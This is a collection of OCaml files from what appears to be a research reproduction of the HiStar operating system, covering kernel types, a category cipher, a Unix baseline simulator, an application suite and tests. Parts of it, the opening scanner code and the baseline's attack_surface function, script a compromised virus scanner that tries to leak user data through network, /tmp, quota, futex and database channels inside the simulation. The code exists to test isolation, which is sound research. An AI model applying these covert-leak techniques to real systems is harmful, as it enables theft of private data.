            ~return_container:(Process.internal proc) sock loot);
  (* 2. write the loot into the world-shared /tmp for a collaborator *)
  attempt report "shared-tmp" (fun () -> Fs.write_file fs "/tmp/dead-drop" loot);
  (* 3. create a fresh world-readable file with the loot *)
  attempt report "new-public-file" (fun () ->
      ignore (Fs.create fs ~label:(Label.make Level.L1) "/tmp/loot"));
  (* 4. modulate a world-visible quota *)
  attempt report "quota-channel" (fun () ->
      match Fs.lookup fs "/tmp" with
      | Some n ->
          Sys.quota_move ~container:n.Fs.parent ~target:n.Fs.oid
            ~nbytes:(Int64.of_int (String.length loot))
      | None -> failwith "no /tmp");
  (* 5. wake a futex an untainted accomplice waits on *)
  attempt report "futex-signal" (fun () ->
      match Fs.lookup fs "/tmp/flag" with
      | Some n -> ignore (Sys.futex_wake (Fs.entry n) ~off:0 ~count:1)
      | None -> failwith "no flag file");
  (* 6. overwrite the virus database for the update daemon to read back *)
  attempt report "virus-db" (fun () -> Fs.write_file fs "/var/db/virus.db" loot);
  publish_results result_seg
    [ { path = "evil"; infected = false; matched = None } ]
