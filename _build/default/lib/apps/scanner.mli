(** A ClamAV substitute (§6.1).

    A signature-matching virus scanner over a synthetic signature
    database. It exercises the same isolation surface as the paper's
    port: it reads user files, spawns helper processes to "decode"
    inputs, writes temporaries, and (if compromised) tries to leak what
    it read. The scanner is ~untrusted~: all guarantees come from the
    labels wrap sets up. *)

type verdict = { path : string; infected : bool; matched : string option }

val make_database : signatures:(string * string) list -> string
(** Serialize a (name, byte-pattern) signature list into the database
    file format. *)

val parse_database : string -> (string * string) list

val scan_bytes : db:(string * string) list -> string -> string option
(** First matching signature name, if any. *)

val run :
  proc:Histar_unix.Process.t ->
  db_path:string ->
  paths:string list ->
  result_seg:Histar_core.Types.centry ->
  spawn_helpers:bool ->
  unit
(** The scanner process body: loads the database, scans every path
    (each through a helper child when [spawn_helpers]), writes the
    verdicts into [result_seg] and flips its ready flag. Runs at
    whatever label its creator gave it. *)

val encode_verdicts : verdict list -> string
val decode_verdicts : string -> verdict list

(** {1 A compromised scanner} *)

type leak_attempt = { channel : string; succeeded : bool }

val run_evil :
  proc:Histar_unix.Process.t ->
  paths:string list ->
  attacker_netd:Histar_net.Netd.t option ->
  result_seg:Histar_core.Types.centry ->
  report:(leak_attempt -> unit) ->
  unit
(** A scanner that has been taken over: reads the user's files, then
    attempts every §1 leak vector — direct TCP, an external helper,
    /tmp dead drops, signalling other processes, quota modulation —
    reporting which the kernel permitted. *)
