(** The §6.4 web server: isolates different users' data so buggy or
    malicious web service code cannot mix them.

    Architecture, following the paper:
    - a connection *demultiplexer* process accepts connections through
      netd and parses only the request line (user, password, path);
    - it authenticates through the §6.2 machinery (login client →
      directory → per-user auth service), so the web server itself
      never handles credentials beyond relaying them into the
      password-tainted check gate;
    - on success it spawns a *worker* process holding that user's
      categories to run the (untrusted) service code against the user's
      files; the worker cannot read any other user's data — the kernel
      stops it even if the service code is malicious;
    - resources for each worker are granted through a per-connection
      container, as the paper's demultiplexer does.

    The "service code" is a parameter, so tests can run a malicious
    handler that tries to read other users' profiles. *)

type t

type request = {
  req_user : string;
  req_password : string;
  req_path : string;
}

type response = Ok of string | Denied of string

val start :
  proc:Histar_unix.Process.t ->
  dir:Histar_auth.Dird.t ->
  handler:(Histar_unix.Process.t -> request -> response) ->
  t
(** Start the demultiplexer. [handler] is the untrusted service code,
    run in a per-user worker process. *)

val serve_one : t -> request -> response
(** Feed one (already-parsed) request through the full pipeline:
    authenticate, spawn the worker, collect its response. Blocks until
    the worker exits. *)

val requests_served : t -> int

val profile_handler : Histar_unix.Process.t -> request -> response
(** A reference service: read and return the file named by the request,
    with the worker's (that is, the authenticated user's) privileges. *)
