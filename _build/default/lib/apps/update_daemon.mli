(** The virus-database update daemon (§6.1).

    Runs with the privilege to write the ClamAV executable and virus
    database — and nothing else. It fetches signature updates from the
    (simulated) vendor over the network. Even a fully compromised
    update daemon cannot read private user data: its label carries no
    user categories, and the kernel stops it cold. *)

type t

val db_write_label :
  dbw:Histar_label.Category.t -> Histar_label.Label.t
(** [{dbw0, 1}]: world-readable, writable only by holders of dbw. *)

val start :
  proc:Histar_unix.Process.t ->
  dbw:Histar_label.Category.t ->
  db_path:string ->
  netd:Histar_net.Netd.t option ->
  vendor:Histar_net.Addr.t ->
  t
(** Spawn the daemon, granting it [dbw]. With a netd it periodically
    fetches from [vendor]; without one it waits for {!push_update}. *)

val push_update : t -> string -> unit
(** Deliver a new database image to the daemon (it applies it with its
    dbw privilege). *)

val updates_applied : t -> int
val snoop_attempts : t -> (string * bool) list
(** For the compromised-daemon tests: paths the daemon tried to read
    and whether the kernel allowed it. *)

val try_snoop : t -> string list -> unit
(** Make the daemon attempt to read these (user) files. *)
