lib/crypto/category_gen.ml: Block_cipher Int64
