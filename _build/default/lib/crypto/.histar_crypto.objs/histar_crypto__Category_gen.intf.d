lib/crypto/category_gen.mli:
