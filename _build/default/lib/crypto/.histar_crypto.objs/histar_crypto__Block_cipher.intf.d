lib/crypto/block_cipher.mli:
