lib/crypto/block_cipher.ml: Array Histar_util Int32 Int64
