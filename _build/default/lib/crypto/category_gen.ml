type t = { cipher : Block_cipher.t; mutable counter : int64 }

let create ~key = { cipher = Block_cipher.create ~key; counter = 0L }

let next t =
  let name = Block_cipher.encrypt61 t.cipher t.counter in
  t.counter <- Int64.add t.counter 1L;
  name

let allocated t = Int64.to_int t.counter
let counter t = t.counter
let restore ~key ~counter = { cipher = Block_cipher.create ~key; counter }
