type t = { round_keys : int64 array }

let rounds = 8
let max61 = Int64.sub (Int64.shift_left 1L 61) 1L

let create ~key =
  (* Derive round keys with the splitmix64 finalizer so that similar keys
     yield unrelated schedules. *)
  let rng = Histar_util.Rng.create key in
  { round_keys = Array.init rounds (fun _ -> Histar_util.Rng.next64 rng) }

(* Round function: a 32->32 bit mix keyed by a 64-bit round key. *)
let feistel_f k x =
  let v = Int64.add (Int64.of_int32 x) k in
  let v = Int64.mul (Int64.logxor v (Int64.shift_right_logical v 33)) 0xFF51AFD7ED558CCDL in
  let v = Int64.logxor v (Int64.shift_right_logical v 29) in
  Int64.to_int32 v

let split v =
  let lo = Int64.to_int32 v in
  let hi = Int64.to_int32 (Int64.shift_right_logical v 32) in
  (hi, lo)

let join hi lo =
  let mask = 0xFFFFFFFFL in
  Int64.logor
    (Int64.shift_left (Int64.logand (Int64.of_int32 hi) mask) 32)
    (Int64.logand (Int64.of_int32 lo) mask)

let encrypt64 t v =
  let l = ref (fst (split v)) and r = ref (snd (split v)) in
  for i = 0 to rounds - 1 do
    let l' = !r in
    let r' = Int32.logxor !l (feistel_f t.round_keys.(i) !r) in
    l := l';
    r := r'
  done;
  join !l !r

let decrypt64 t v =
  let l = ref (fst (split v)) and r = ref (snd (split v)) in
  for i = rounds - 1 downto 0 do
    let r' = !l in
    let l' = Int32.logxor !r (feistel_f t.round_keys.(i) !l) in
    l := l';
    r := r'
  done;
  join !l !r

let in_range v = v >= 0L && v <= max61

let encrypt61 t v =
  assert (in_range v);
  let rec walk x =
    let c = encrypt64 t x in
    if in_range c then c else walk c
  in
  walk v

let decrypt61 t v =
  assert (in_range v);
  let rec walk x =
    let p = decrypt64 t x in
    if in_range p then p else walk p
  in
  walk v
