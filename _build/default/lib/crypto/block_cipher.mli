(** Small block cipher used to generate opaque category names.

    The paper names categories by encrypting a counter with a block
    cipher, producing 61-bit identifiers that reveal nothing about how
    many categories other threads have allocated (§2). We implement a
    64-bit Feistel network and restrict it to a permutation of
    [\[0, 2^61)] by cycle walking: out-of-range ciphertexts are
    re-encrypted until they land in range. *)

type t

val create : key:int64 -> t

val encrypt64 : t -> int64 -> int64
(** Raw 64-bit block encryption (a bijection on all 64-bit values). *)

val decrypt64 : t -> int64 -> int64

val encrypt61 : t -> int64 -> int64
(** Permutation of [\[0, 2^61)]. The argument must be in range. *)

val decrypt61 : t -> int64 -> int64

val max61 : int64
(** [2^61 - 1], the largest valid 61-bit value. *)
