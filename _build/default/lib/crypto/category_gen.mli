(** Category name generator: encrypts a counter to produce fresh,
    opaque, never-repeating 61-bit category identifiers (§2). *)

type t

val create : key:int64 -> t

val next : t -> int64
(** A fresh 61-bit category name, distinct from all previous ones. *)

val allocated : t -> int
(** How many names have been handed out. *)

val counter : t -> int64
(** Persistent state: the raw counter. *)

val restore : key:int64 -> counter:int64 -> t
(** Rebuild a generator from a persisted counter. *)
