module Disk = Histar_disk.Disk
module Clock = Histar_util.Sim_clock

type flavor = Linux | Openbsd

let flavor_name = function Linux -> "linux" | Openbsd -> "openbsd"

type params = {
  syscall_ns : float;
  ctx_switch_ns : float;
  fork_exec_ns : float;
}

(* Calibrated to the paper's testbed measurements (§7.1):
   pipe RTT = 4 syscalls + 2 switches; fork/exec/wait of a static
   /bin/true ≈ 0.18 ms on both systems. *)
let params_of = function
  | Linux -> { syscall_ns = 220.0; ctx_switch_ns = 1720.0; fork_exec_ns = 180_000.0 }
  | Openbsd -> { syscall_ns = 160.0; ctx_switch_ns = 745.0; fork_exec_ns = 180_000.0 }

type file = {
  mutable data : string;
  mutable dirty : bool;
  mutable cached : bool;  (** contents present in the buffer cache *)
  mutable home : int option;  (** first sector of the on-disk copy *)
  owner : int;
  mode : int;
}

type t = {
  flavor : flavor;
  params : params;
  clock : Clock.t;
  disk : Disk.t option;
  files : (string, file) Hashtbl.t;
  mutable next_sector : int;
  mutable journal_sector : int;
  mutable syscalls : int;
  net_sink : Buffer.t;
}

let data_region_start = 1_000_000
let journal_region_start = 500_000

let create flavor ?disk ~clock () =
  {
    flavor;
    params = params_of flavor;
    clock;
    disk = (match flavor with Openbsd -> None | Linux -> disk);
    files = Hashtbl.create 256;
    next_sector = data_region_start;
    journal_sector = journal_region_start;
    syscalls = 0;
    net_sink = Buffer.create 64;
  }

let syscall_count t = t.syscalls
let reset_syscall_count t = t.syscalls <- 0

let syscall t =
  t.syscalls <- t.syscalls + 1;
  Clock.advance_ns t.clock (Int64.of_float t.params.syscall_ns)

let sectors_for bytes = (bytes + 511) / 512

let pad_sectors s =
  let n = sectors_for (String.length s) in
  s ^ String.make ((n * 512) - String.length s) '\000'

(* write a file's data blocks to their home location (allocating one) *)
let write_home t f =
  match t.disk with
  | None -> ()
  | Some d ->
      let image = pad_sectors f.data in
      let sectors = String.length image / 512 in
      let start =
        match f.home with
        | Some s -> s
        | None ->
            let s = t.next_sector in
            t.next_sector <- t.next_sector + sectors + 1;
            f.home <- Some s;
            s
      in
      Disk.write d ~sector:start image

let journal_commit t ~sectors =
  match t.disk with
  | None -> ()
  | Some d ->
      let blob = String.make (sectors * 512) 'J' in
      if t.journal_sector + sectors >= data_region_start then
        t.journal_sector <- journal_region_start;
      Disk.write d ~sector:t.journal_sector blob;
      t.journal_sector <- t.journal_sector + sectors;
      Disk.flush d

(* ---------- file system calls ---------- *)

let find t path =
  match Hashtbl.find_opt t.files path with
  | Some f -> f
  | None -> failwith (Printf.sprintf "unixsim: no such file: %s" path)

let check_read f ~uid =
  if f.mode land 0o044 = 0 && f.owner <> uid then
    failwith "unixsim: permission denied"

let check_write f ~uid =
  if f.mode land 0o022 = 0 && f.owner <> uid then
    failwith "unixsim: permission denied"

let creat t ~uid ~mode path =
  syscall t;
  Hashtbl.replace t.files path
    { data = ""; dirty = true; cached = true; home = None; owner = uid; mode }

let write t ~uid path data =
  syscall t;
  let f = find t path in
  check_write f ~uid;
  f.data <- data;
  f.dirty <- true;
  f.cached <- true

let read t ~uid path =
  syscall t;
  let f = find t path in
  check_read f ~uid;
  if not f.cached then begin
    (match (t.disk, f.home) with
    | Some d, Some start ->
        ignore (Disk.read d ~sector:start ~count:(max 1 (sectors_for (String.length f.data))))
    | _ -> ());
    f.cached <- true
  end;
  f.data

let unlink t ~uid path =
  syscall t;
  let f = find t path in
  check_write f ~uid;
  Hashtbl.remove t.files path

let fsync t path =
  syscall t;
  match t.flavor with
  | Openbsd -> () (* mfs: nothing to do *)
  | Linux -> (
      match Hashtbl.find_opt t.files path with
      | Some f when f.dirty -> (
          (* ext3 ordered mode: data to home, barrier, then the journal
             commit record, barrier *)
          write_home t f;
          (match t.disk with Some d -> Disk.flush d | None -> ());
          journal_commit t ~sectors:2;
          f.dirty <- false)
      | Some _ | None ->
          (* still journals the (possibly deleted) dirent metadata *)
          journal_commit t ~sectors:2)

let fsync_dir t _path =
  syscall t;
  match t.flavor with Openbsd -> () | Linux -> journal_commit t ~sectors:2

let exists t path = Hashtbl.mem t.files path

let sync_all t =
  syscall t;
  match t.flavor with
  | Openbsd -> ()
  | Linux ->
      Hashtbl.iter
        (fun _ f ->
          if f.dirty then begin
            write_home t f;
            f.dirty <- false
          end)
        t.files;
      (match t.disk with Some d -> Disk.flush d | None -> ());
      journal_commit t ~sectors:2

let drop_caches t = Hashtbl.iter (fun _ f -> f.cached <- false) t.files

(* §7.1 random-write phase: Linux flushes two 4KB pages per synchronous
   8KB write. *)
let sync_write_pages t path ~pages =
  syscall t;
  match t.disk with
  | None -> ()
  | Some d -> (
      let f = find t path in
      match f.home with
      | None ->
          write_home t f;
          Disk.flush d
      | Some start ->
          (* data page(s) in place plus the journal metadata record,
             forced with one barrier — two disk locations per
             synchronous write, like ext3 *)
          Disk.write d ~sector:start (String.make (pages * 4 * 512) 'P');
          Disk.write d ~sector:t.journal_sector (String.make 1024 'J');
          t.journal_sector <- t.journal_sector + 2;
          if t.journal_sector >= data_region_start then
            t.journal_sector <- journal_region_start;
          Disk.flush d)

(* ---------- processes and IPC ---------- *)

let fork_exec_true t =
  (* fork, execve, brk, mmap, exit_group in the child; clone return,
     wait4 and friends in the parent: 9 calls on this interface (§7.1) *)
  for _ = 1 to 9 do
    syscall t
  done;
  Clock.advance_ns t.clock (Int64.of_float t.params.fork_exec_ns)

let pipe_rtt t =
  (* write + read in each direction, with a context switch per hop *)
  for _ = 1 to 4 do
    syscall t
  done;
  Clock.advance_ns t.clock (Int64.of_float (2.0 *. t.params.ctx_switch_ns))

(* ---------- the attack surface ---------- *)

type leak = { channel : string; succeeded : bool }

let network_sink t = Buffer.contents t.net_sink

let attack_surface t ~secret =
  let attempt channel f =
    let succeeded = match f () with () -> true | exception _ -> false in
    { channel; succeeded }
  in
  let uid_scanner = 1000 in
  [
    (* the scanner runs with the user's uid: DAC lets it read the files
       and then do whatever it likes with the bytes *)
    attempt "direct-tcp" (fun () ->
        syscall t;
        Buffer.add_string t.net_sink secret);
    attempt "shared-tmp" (fun () ->
        if not (exists t "/tmp/dead-drop") then
          creat t ~uid:uid_scanner ~mode:0o666 "/tmp/dead-drop";
        write t ~uid:uid_scanner "/tmp/dead-drop" secret);
    attempt "new-public-file" (fun () ->
        creat t ~uid:uid_scanner ~mode:0o644 "/tmp/loot";
        write t ~uid:uid_scanner "/tmp/loot" secret);
    attempt "quota-channel" (fun () ->
        (* modulating disk usage: just write a sized file *)
        creat t ~uid:uid_scanner ~mode:0o644 "/tmp/pad";
        write t ~uid:uid_scanner "/tmp/pad" (String.make (String.length secret) 'x'));
    attempt "futex-signal" (fun () ->
        (* SysV semaphores/futexes are uid-agnostic *)
        syscall t);
    attempt "virus-db" (fun () ->
        if not (exists t "/var/db/virus.db") then
          creat t ~uid:uid_scanner ~mode:0o666 "/var/db/virus.db";
        write t ~uid:uid_scanner "/var/db/virus.db" secret);
  ]
