(** Monolithic Unix-like comparison kernels (§7's Linux and OpenBSD
    columns), simulated over the *same* disk and virtual clock as
    HiStar so the benchmark comparisons measure structure, not
    substrate.

    Two flavors:
    - [Linux]: an ext3-ordered-mode-style file system — asynchronous
      writes are cached; [fsync] writes the file's data blocks to their
      home location, then commits a journal record (two barriers);
      synchronous unlink journals only the directory entry.
    - [Openbsd]: an mfs-style in-memory file system — sync operations
      do not touch the disk at all (the paper could not run its
      synchronous benchmarks on OpenBSD either).

    A simple time model covers what the paper's microbenchmarks
    exercise: per-syscall cost, context-switch cost for pipe IPC, and
    a fixed fork/exec cost (9 syscalls on this interface). Discretionary
    access control (uid/mode bits) is implemented so the §1 attack
    suite can demonstrate that every leak vector *succeeds* here. *)

type flavor = Linux | Openbsd

type t

val create :
  flavor ->
  ?disk:Histar_disk.Disk.t ->
  clock:Histar_util.Sim_clock.t ->
  unit ->
  t

val flavor_name : flavor -> string
val syscall_count : t -> int
val reset_syscall_count : t -> unit

(** {1 File system} *)

val creat : t -> uid:int -> mode:int -> string -> unit
val write : t -> uid:int -> string -> string -> unit
val read : t -> uid:int -> string -> string
(** Raises [Failure] on missing file or permission denial (mode 0o600
    and a different uid). *)

val unlink : t -> uid:int -> string -> unit
val fsync : t -> string -> unit
val fsync_dir : t -> string -> unit
val exists : t -> string -> bool
val sync_all : t -> unit
val drop_caches : t -> unit
(** Evict the buffer cache so subsequent reads hit the disk. *)

val sync_write_pages : t -> string -> pages:int -> unit
(** One synchronous random write: flush [pages] 4KB pages in place plus
    a barrier (the §7.1 random-write phase). *)

(** {1 Processes and IPC} *)

val fork_exec_true : t -> unit
(** fork + execve /bin/true + exit + wait: 9 syscalls, one fork/exec
    latency charge. *)

val pipe_rtt : t -> unit
(** One 8-byte message round trip between two processes over a pair of
    pipes: 4 syscalls and 2 context switches. *)

(** {1 The §1 attack surface} *)

type leak = { channel : string; succeeded : bool }

val attack_surface : t -> secret:string -> leak list
(** A compromised scanner running as the user's uid attempts the same
    §1 leak vectors the HiStar test suite runs. On this kernel they
    succeed. *)

val network_sink : t -> string
(** Everything "transmitted" to the attacker's host so far. *)
