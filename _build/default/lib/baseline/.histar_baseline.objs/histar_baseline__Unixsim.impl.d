lib/baseline/unixsim.ml: Buffer Hashtbl Histar_disk Histar_util Int64 Printf String
