lib/baseline/unixsim.mli: Histar_disk Histar_util
