(** Common kernel types: object IDs, container entries, object kinds and
    error codes (§3). *)

type oid = int64
(** Unique 61-bit object identifier. *)

val pp_oid : Format.formatter -> oid -> unit

val tls_oid : oid
(** The reserved object ID meaning "the current thread's thread-local
    segment" (§3.4). *)

type centry = { container : oid; object_id : oid }
(** A container entry ⟨container ID, object ID⟩ — how almost every
    system call names an object (§3.2). Using one requires permission
    to read the container. *)

val centry : oid -> oid -> centry
val self_entry : oid -> centry
(** The special case of a container naming itself: ⟨D, D⟩. *)

val pp_centry : Format.formatter -> centry -> unit

type kind = Segment | Thread | Address_space | Gate | Container | Device

val kind_to_string : kind -> string
val kind_to_bit : kind -> int
(** Bit position in an [avoid_types] mask. *)

val pp_kind : Format.formatter -> kind -> unit

type error =
  | Label_check of string  (** an information-flow rule would be violated *)
  | Not_found_ of string  (** no such object, or not in that container *)
  | Invalid of string  (** malformed request *)
  | Quota of string  (** storage quota exhausted *)
  | Immutable of string  (** object is read-only *)
  | Avoid_type of string  (** container forbids objects of this kind *)

val error_to_string : error -> string
val pp_error : Format.formatter -> error -> unit

exception Kernel_error of error
(** Raised by the user-side syscall wrappers on a kernel error return. *)

type 'a result = ('a, error) Stdlib.result
