lib/core/label_cache.mli: Histar_label
