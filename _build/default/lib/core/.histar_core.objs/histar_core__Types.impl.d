lib/core/types.ml: Format Int64 Stdlib
