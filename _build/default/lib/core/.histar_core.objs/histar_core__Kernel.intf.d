lib/core/kernel.mli: Histar_label Histar_store Histar_util Profile Types
