lib/core/sys.ml: Histar_label Int64 List Printf String Syscall Types
