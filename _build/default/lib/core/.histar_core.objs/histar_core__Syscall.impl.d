lib/core/syscall.ml: Effect Histar_label Types
