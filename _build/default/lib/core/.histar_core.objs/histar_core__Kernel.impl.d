lib/core/kernel.ml: Bytes Effect Hashtbl Histar_crypto Histar_label Histar_store Histar_util Int64 Label_cache List Logs Option Printexc Printf Profile Queue Result String Syscall Types
