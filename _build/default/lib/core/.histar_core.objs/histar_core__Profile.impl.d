lib/core/profile.ml: Format Hashtbl Int List
