lib/core/types.mli: Format Stdlib
