lib/core/sys.mli: Histar_label Syscall Types
