lib/core/label_cache.ml: Hashtbl Histar_label
