type t = { counts : (string, int ref) Hashtbl.t; mutable total : int }

let create () = { counts = Hashtbl.create 64; total = 0 }

let record t name =
  t.total <- t.total + 1;
  match Hashtbl.find_opt t.counts name with
  | Some r -> incr r
  | None -> Hashtbl.add t.counts name (ref 1)

let total t = t.total

let count t name =
  match Hashtbl.find_opt t.counts name with Some r -> !r | None -> 0

let to_list t =
  Hashtbl.fold (fun name r acc -> (name, !r) :: acc) t.counts []
  |> List.sort (fun (_, a) (_, b) -> Int.compare b a)

let reset t =
  Hashtbl.reset t.counts;
  t.total <- 0

let pp fmt t =
  Format.fprintf fmt "@[<v>total syscalls: %d" t.total;
  List.iter (fun (name, n) -> Format.fprintf fmt "@,%8d  %s" n name) (to_list t);
  Format.fprintf fmt "@]"
