module Label = Histar_label.Label

type key = Label.t * Label.t

type t = {
  bound : int;
  observe_tbl : (key, bool) Hashtbl.t;
  modify_tbl : (key, bool) Hashtbl.t;
  mutable hits : int;
  mutable misses : int;
}

let create ?(bound = 8192) () =
  {
    bound;
    observe_tbl = Hashtbl.create 256;
    modify_tbl = Hashtbl.create 256;
    hits = 0;
    misses = 0;
  }

let lookup t tbl key compute =
  match Hashtbl.find_opt tbl key with
  | Some v ->
      t.hits <- t.hits + 1;
      v
  | None ->
      t.misses <- t.misses + 1;
      let v = compute () in
      if Hashtbl.length tbl >= t.bound then Hashtbl.reset tbl;
      Hashtbl.replace tbl key v;
      v

let observe t ~thread ~obj =
  lookup t t.observe_tbl (thread, obj) (fun () ->
      Label.can_observe ~thread ~obj)

let modify t ~thread ~obj =
  lookup t t.modify_tbl (thread, obj) (fun () -> Label.can_modify ~thread ~obj)

let hits t = t.hits
let misses t = t.misses
