type oid = int64

let pp_oid fmt o = Format.fprintf fmt "#%Ld" o

(* All real object IDs come from the cipher over [0, 2^61); this value is
   outside that range. *)
let tls_oid = Int64.minus_one

type centry = { container : oid; object_id : oid }

let centry container object_id = { container; object_id }
let self_entry d = { container = d; object_id = d }

let pp_centry fmt ce =
  Format.fprintf fmt "<%Ld,%Ld>" ce.container ce.object_id

type kind = Segment | Thread | Address_space | Gate | Container | Device

let kind_to_string = function
  | Segment -> "segment"
  | Thread -> "thread"
  | Address_space -> "address_space"
  | Gate -> "gate"
  | Container -> "container"
  | Device -> "device"

let kind_to_bit = function
  | Segment -> 0
  | Thread -> 1
  | Address_space -> 2
  | Gate -> 3
  | Container -> 4
  | Device -> 5

let pp_kind fmt k = Format.pp_print_string fmt (kind_to_string k)

type error =
  | Label_check of string
  | Not_found_ of string
  | Invalid of string
  | Quota of string
  | Immutable of string
  | Avoid_type of string

let error_to_string = function
  | Label_check s -> "label check failed: " ^ s
  | Not_found_ s -> "not found: " ^ s
  | Invalid s -> "invalid: " ^ s
  | Quota s -> "quota: " ^ s
  | Immutable s -> "immutable: " ^ s
  | Avoid_type s -> "avoid_type: " ^ s

let pp_error fmt e = Format.pp_print_string fmt (error_to_string e)

exception Kernel_error of error

type 'a result = ('a, error) Stdlib.result
