lib/store/store.ml: Extent_alloc Hashtbl Histar_btree Histar_disk Histar_util Histar_wal Int64 List Option String
