lib/store/extent_alloc.ml: Histar_btree Histar_util Int64
