lib/store/extent_alloc.mli: Histar_util
