lib/store/store.mli: Histar_disk
