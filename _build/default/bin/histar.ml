(* The `histar` command-line tool: boot a simulated HiStar machine and
   poke at it.

     dune exec bin/histar.exe -- info
     dune exec bin/histar.exe -- smoke
     dune exec bin/histar.exe -- ls [--depth N]

   `smoke` boots a full machine — store, kernel, Unix library, netd,
   authentication — and exercises one path through each subsystem.
   `ls` boots a machine with a small world and prints the container
   hierarchy with labels, the way an administrator would inspect it. *)

module Kernel = Histar_core.Kernel
module Sys_ = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_label

let l1 = Label.make Level.L1

let show_info () =
  print_endline "HiStar (OSDI 2006) reproduction in OCaml";
  print_endline "";
  print_endline "kernel object types : segment, thread, address space, gate,";
  print_endline "                      container, device";
  print_endline "taint levels        : * < 0 < 1 < 2 < 3  (J in checks only)";
  print_endline "category space      : 61-bit names from a Feistel cipher";
  print_endline "store               : single-level, 3 B+-trees, WAL, snapshots";
  print_endline "user level          : fs, processes, pipes, signals, netd,";
  print_endline "                      authentication, wrap/scanner, VPN";
  print_endline "";
  print_endline "see DESIGN.md for the full inventory and EXPERIMENTS.md for";
  print_endline "the paper-vs-measured results.";
  0

let smoke () =
  let clock = Histar_util.Sim_clock.create () in
  let disk = Histar_disk.Disk.create ~clock () in
  let store = Histar_store.Store.format ~disk () in
  let kernel = Kernel.create ~clock ~store () in
  let ok = ref [] in
  let pass name = ok := (name, true) :: !ok in
  let fail name = ok := (name, false) :: !ok in
  let check name b = if b then pass name else fail name in
  let _init =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root kernel) ~label:l1 in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        (* file system *)
        ignore (Fs.mkdir fs "/tmp");
        Fs.write_file fs "/tmp/hello" "world";
        check "fs read/write" (Fs.read_file fs "/tmp/hello" = "world");
        (* labels *)
        let c = Sys_.cat_create () in
        ignore
          (Fs.create fs
             ~label:(Label.of_list [ (c, Level.L3) ] Level.L1)
             "/tmp/secret");
        let child =
          Process.spawn proc ~name:"probe" (fun p ->
              (match Fs.read_file (Process.fs p) "/tmp/secret" with
              | _ -> Process.exit p 1
              | exception Kernel_error _ -> Process.exit p 0))
        in
        check "label enforcement" (Process.wait proc child = 0);
        (* processes and pipes *)
        let r, w = Process.pipe proc in
        let h =
          Process.spawn proc ~name:"producer" ~fds:[ w ] (fun p ->
              ignore (Process.write p w "ping");
              Process.close p w)
        in
        let got = Process.read proc r 8 in
        ignore (Process.wait proc h);
        check "pipes across processes" (got = "ping");
        (* authentication *)
        let log = Histar_auth.Logd.start proc in
        let dir = Histar_auth.Dird.start proc in
        let bob = Users.create_user ~fs ~name:"bob" in
        let _authd =
          Histar_auth.Authd.start proc ~user:bob ~password:"pw" ~log ~dir ()
        in
        let h =
          Process.spawn proc ~name:"sshd" (fun p ->
              match
                Histar_auth.Login.login ~proc:p ~dir ~username:"bob"
                  ~password:"pw"
              with
              | Histar_auth.Login.Granted _ -> Process.exit p 0
              | _ -> Process.exit p 1)
        in
        check "authentication" (Process.wait proc h = 0);
        (* persistence *)
        Sys_.sync_all ();
        pass "checkpoint")
  in
  Kernel.run kernel;
  let recovered =
    match Kernel.recover ~store with
    | k' -> Kernel.object_count k' > 0
    | exception _ -> false
  in
  check "recovery" recovered;
  let results = List.rev !ok in
  List.iter
    (fun (name, b) -> Printf.printf "%-26s %s\n" name (if b then "ok" else "FAILED"))
    results;
  if List.for_all snd results then begin
    print_endline "smoke test passed";
    0
  end
  else begin
    print_endline "smoke test FAILED";
    1
  end

let ls depth =
  let kernel = Kernel.create () in
  let _init =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root kernel) ~label:l1 in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        ignore (Fs.mkdir fs "/tmp");
        Fs.write_file fs "/tmp/example" "data";
        let bob = Users.create_user ~fs ~name:"bob" in
        Fs.write_file fs "/home/bob/private" "secret";
        ignore bob;
        ignore proc)
  in
  Kernel.run kernel;
  let rec show oid indent d =
    if d >= 0 then begin
      let label =
        match Kernel.obj_label kernel oid with
        | Some lbl -> Label.to_string lbl
        | None -> "?"
      in
      let kind =
        match Kernel.obj_kind kernel oid with
        | Some k -> kind_to_string k
        | None -> "?"
      in
      Printf.printf "%s%-14s %-20Ld %s\n" indent kind oid label;
      match Kernel.container_children kernel oid with
      | Some kids when d > 0 ->
          List.iter (fun (k, _) -> show k (indent ^ "  ") (d - 1)) kids
      | Some _ | None -> ()
    end
  in
  show (Kernel.root kernel) "" depth;
  0

open Cmdliner

let info_cmd =
  Cmd.v (Cmd.info "info" ~doc:"Describe the system") Term.(const show_info $ const ())

let smoke_cmd =
  Cmd.v
    (Cmd.info "smoke" ~doc:"Boot a machine and exercise every subsystem")
    Term.(const smoke $ const ())

let ls_cmd =
  let depth =
    Arg.(value & opt int 3 & info [ "depth" ] ~doc:"Recursion depth")
  in
  Cmd.v
    (Cmd.info "ls" ~doc:"Print the container hierarchy with labels")
    Term.(const ls $ depth)

let () =
  let doc = "a HiStar (OSDI 2006) machine in simulation" in
  exit
    (Cmd.eval'
       (Cmd.group (Cmd.info "histar" ~doc) [ info_cmd; smoke_cmd; ls_cmd ]))
