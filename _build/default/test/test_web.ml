(* §6.4 web services and the §5.8 untainting gates. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_auth
open Histar_apps
open Histar_label

let l1 = Label.make Level.L1

type world = {
  proc : Process.t;
  fs : Fs.t;
  dir : Dird.t;
  alice : Process.user;
  bob : Process.user;
}

let with_world f =
  let k = Kernel.create () in
  let result = ref None in
  let failure = ref None in
  let _tid =
    Kernel.spawn k ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root k) ~label:l1 in
        let proc = Process.boot ~fs ~container:(Kernel.root k) ~name:"init" () in
        let log = Logd.start proc in
        let dir = Dird.start proc in
        let alice = Users.create_user ~fs ~name:"alice" in
        let bob = Users.create_user ~fs ~name:"bob" in
        Fs.write_file fs "/home/alice/profile" "alice: ssn 111-11-1111";
        Fs.write_file fs "/home/bob/profile" "bob: ssn 222-22-2222";
        ignore (Authd.start proc ~user:alice ~password:"apw" ~log ~dir ());
        ignore (Authd.start proc ~user:bob ~password:"bpw" ~log ~dir ());
        let w = { proc; fs; dir; alice; bob } in
        match f w with
        | v -> result := Some v
        | exception e -> failure := Some (Printexc.to_string e))
  in
  Kernel.run k;
  match (!result, !failure) with
  | Some v, _ -> v
